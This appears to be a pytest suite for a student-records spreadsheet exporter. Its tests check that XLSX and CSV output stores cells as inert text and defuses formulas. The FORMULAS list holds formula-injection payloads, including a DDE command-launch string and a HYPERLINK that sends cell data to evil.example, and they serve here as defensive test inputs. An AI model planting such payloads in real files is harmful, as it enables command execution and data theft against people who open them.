"""What leaves the platform is text, opens as meant, and comes back unchanged."""

import io
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from jiaoyun.plumbing.sheets.cells import cell_date, cell_text
from jiaoyun.plumbing.sheets.reader import peek, read_rows
from jiaoyun.plumbing.sheets.writer import ColumnOut, SheetOut, write_csv, write_xlsx

FORMULAS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A2,"成绩")',
    "+8613800000000",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＠SUM(1)",
    ";=1+1",
    '"=1+1',
    "_x003D_1+1",
    "http://evil.example/",
    "369901201501010011",
    "1E5",
    "张 三",
    "𠮷野·买买提",
    "{=1}",
]
COLUMNS = [ColumnOut("姓名", required=True), ColumnOut("身份证号", width=22, note="18 位，文本格式"), ColumnOut("备注")]


def written(*sheets: SheetOut) -> bytes:
    stream = io.BytesIO()
    write_xlsx(stream, sheets)
    return stream.getvalue()


def read_back(data: bytes) -> list[list[str]]:
    found = peek(data, head_words=frozenset({"姓名", "身份证号"}))
    rows = read_rows(data, sheet_index=found.sheet_index, head_row=found.head_row)
    return [cells for block in rows for _, cells in block]


def streamed(rows: list[list[str]]) -> Iterator[list[str]]:
    yield from rows


@pytest.mark.parametrize("make", [list, streamed])
def test_it_writes_nothing_but_text(make: type) -> None:
    rows = [[text, "369901201501010011", text] for text in FORMULAS]
    data = written(SheetOut("学生", COLUMNS, make(rows)))
    page = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    kinds = {(cell.data_type, cell.hyperlink is None) for line in page.iter_rows(min_row=2) for cell in line}
    assert kinds == {("s", True)}
    assert read_back(data) == rows


def test_it_gives_text_columns_the_text_format_also_below() -> None:
    page = openpyxl.load_workbook(io.BytesIO(written(SheetOut("学生", COLUMNS, [["张三", "1"]])))).worksheets[0]
    assert page["B2"].number_format == "@"
    assert page.column_dimensions["B"].width == pytest.approx(22, abs=1)
    assert page.freeze_panes == "A2"
    assert page["A1"].value == "*姓名"
    assert page["B1"].comment.text == "18 位，文本格式"


def test_it_writes_numbers_and_dates_where_a_column_is_meant_for_them() -> None:
    columns = [ColumnOut("姓名"), ColumnOut("身份证号", kind="number"), ColumnOut("出生日期", kind="date")]
    row = ["张三", 369901201501010011, date(2015, 9, 1)]
    [cells] = read_back(written(SheetOut("学生", columns, [row])))
    assert cell_text(cells[1]) == "369901201501010011"
    assert cell_date(cells[2]) == date(2015, 9, 1)
    [cells] = read_back(written(SheetOut("学生", columns, [["李四", 12, None]])))
    assert cells[:2] == ["李四", "12"]


def test_it_offers_short_and_long_lists() -> None:
    long_list = [f"{grade}（{number}）班" for grade in "一二三四五六" for number in range(1, 31)]
    columns = [ColumnOut("姓名"), ColumnOut("性别", choices=("男", "女")), ColumnOut("班级", choices=long_list)]
    book = openpyxl.load_workbook(io.BytesIO(written(SheetOut("学生", columns, [], notes=["请填写"]))))
    assert book.sheetnames == ["学生", "填写说明", "选项"]
    assert book["选项"].sheet_state == "hidden"
    assert [cell.value for cell in book["选项"]["A"]] == long_list
    rules = {str(rule.sqref).split(":")[0]: rule.formula1 for rule in book["学生"].data_validations.dataValidation}
    assert rules == {"B2": '"男,女"', "C2": "'选项'!$A$1:$A$180"}


def test_it_puts_examples_where_nobody_imports_them() -> None:
    columns = [ColumnOut("姓名", example="张三", required=True), ColumnOut("身份证号", example="369901201501010011")]
    data = written(SheetOut("学生", columns, [["李四", "1"]], notes=["每个学生一行", "不要改列名"]))
    assert read_back(data) == [["李四", "1"]]
    notes = openpyxl.load_workbook(io.BytesIO(data))["填写说明"]
    lines = [[cell.value for cell in line] for line in notes.iter_rows()]
    assert lines[0][0] == "每个学生一行"
    assert ["姓名", "是", None, "张三"] in lines


def test_it_cuts_what_no_cell_can_hold() -> None:
    [cells] = read_back(written(SheetOut("学生", COLUMNS, [["长" * 40_000, "1", ""]])))
    assert len(cells[0]) == 32_767
    assert cells[0].endswith("…")


def test_it_refuses_what_a_sheet_cannot_hold() -> None:
    with pytest.raises(ValueError, match="columns"):
        written(SheetOut("学生", COLUMNS, [["1"] * 4]))
    with pytest.raises(ValueError, match="sheet"):
        written()


def test_it_takes_any_name_for_a_sheet(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    assert write_xlsx(file, [SheetOut("'2026/2027 [一年级]*?:" + "长" * 40, COLUMNS, [])]) == 0
    assert openpyxl.load_workbook(file).sheetnames == ["20262027 一年级" + "长" * 19]


def test_it_leaves_no_rows_behind_in_temporary_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    data = written(SheetOut("学生", COLUMNS, streamed([["张三", "1"]] * 50)))
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    assert list(tmp_path.iterdir()) == []


def test_it_defuses_formulas_in_text_files() -> None:
    stream = io.BytesIO()
    count = write_csv(
        stream, SheetOut("学生", COLUMNS, [["=1+1", "\t=1", "＝1"], ["张三", "-", "a\x00b"], [None, 12, -3]])
    )
    assert count == 3
    assert stream.getvalue().startswith(b"\xef\xbb\xbf")
    lines = stream.getvalue().decode("utf-8-sig").split("\r\n")
    assert lines == ["*姓名,身份证号,备注", "'=1+1,'\t=1,'＝1", "张三,'-,ab", ",12,-3", ""]
